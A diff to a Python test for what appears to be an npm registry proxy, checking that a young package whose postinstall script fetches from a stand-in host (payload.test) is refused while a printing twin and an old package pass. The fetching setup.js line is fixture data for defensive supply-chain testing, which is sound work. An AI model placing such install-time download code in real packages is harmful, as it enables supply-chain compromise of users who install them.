@@ -321,37 +321,43 @@ async def test_a_value_no_whole_parse_takes_fails_the_tarballs_fill_as_it_fails_
 async def test_by_default_a_cold_tarball_is_judged_alone_and_a_young_package_quarantined(
     public_registry: FixtureRegistry, start_proxy: StartProxy,
 ) -> None:
-    # No rules file: young-package-install-script is on and reads the package's first publish,
-    # not its history, so a lockfile install's tarballs stay on the one-version path. A week-old
-    # package's release that runs code at install is refused from its version alone; a package
-    # years old whose packument lacks `created` is known old by its first version's time,
-    # which one version's gating carries (its own time is two days: judged young without it).
+    # No rules file: the capability signals read the package's first publish, not its
+    # history, until the bytes show a capability that could have been gained, so a lockfile
+    # install's tarballs stay on the one-version path. A week-old package's release whose
+    # install code downloads is refused from its version alone (nothing vouches for it);
+    # the same package's twin whose install only prints a line is admitted; a package years
+    # old whose packument lacks `created` is known old by its first version's time, which
+    # one version's gating carries (its own time is two days: judged young without it).
     now = datetime.now(UTC)
-    files = {"index.js": b"module.exports = 1;\n", "setup.js": b"console.log('setup ran');\n"}
+    printing = {"index.js": b"module.exports = 1;\n", "setup.js": b"console.log('set up');\n"}
+    fetching = {**printing, "setup.js": b"require('https').get('https://payload.test/x');\n"}
 
-    def release(name: str, first: datetime) -> None:
+    def release(name: str, first: datetime, files: dict[str, bytes]) -> None:
         public_registry.add(make_package(name, [
-            make_version(name, "1.0.0", files=files, published=first),
+            make_version(name, "1.0.0", files=printing, published=first),
             make_version(name, "1.0.1", files=files, published=now - timedelta(days=2),
                          scripts={"postinstall": "node setup.js"})]))
 
-    release("young-setup", now - timedelta(days=7))
-    release("old-setup", now - timedelta(days=3 * 365))
+    release("young-setup", now - timedelta(days=7), fetching)
+    release("young-print", now - timedelta(days=7), printing)
+    release("old-setup", now - timedelta(days=3 * 365), printing)
     document = public_registry.packument("old-setup")
     del document["time"]["created"]
     public_registry.fault("/old-setup", Fault(body=orjson.dumps(document)), exact=True)
     proxy = await start_proxy(public_registry.url, cache_ttl=60.0)
 
     young = await proxy.get("npm/young-setup/-/young-setup-1.0.1.tgz")
+    printed = await proxy.get("npm/young-print/-/young-print-1.0.1.tgz")
     old = await proxy.get("npm/old-setup/-/old-setup-1.0.1.tgz")
 
-    assert (young.status, young.json()["rule"]) == (403, "young-package-install-script")
-    assert young.json()["evidence"] == ["postinstall (node setup.js)"]
-    assert old.status == 200
-    assert "old-setup" not in proxy.server.packuments.cache  # judged alone: no whole fill
-    assert "old-setup@1.0.1" in proxy.server.packuments.alone
+    assert (young.status, young.json()["rule"]) == (403, "new-capability")
+    assert "install-time code gains network" in young.json()["reason"]
+    assert (printed.status, old.status) == (200, 200)
+    for name in ("young-print", "old-setup"):  # judged alone: no whole fill
+        assert name not in proxy.server.packuments.cache
+        assert f"{name}@1.0.1" in proxy.server.packuments.alone
     again = await proxy.get("npm/young-setup/-/young-setup-1.0.1.tgz")  # the verdict kept
-    assert (again.status, again.json()["rule"]) == (403, "young-package-install-script")
+    assert (again.status, again.json()["rule"]) == (403, "new-capability")
 
 
 def test_repeated_keys_are_read_lazily_as_a_whole_parse_reads_them() -> None:
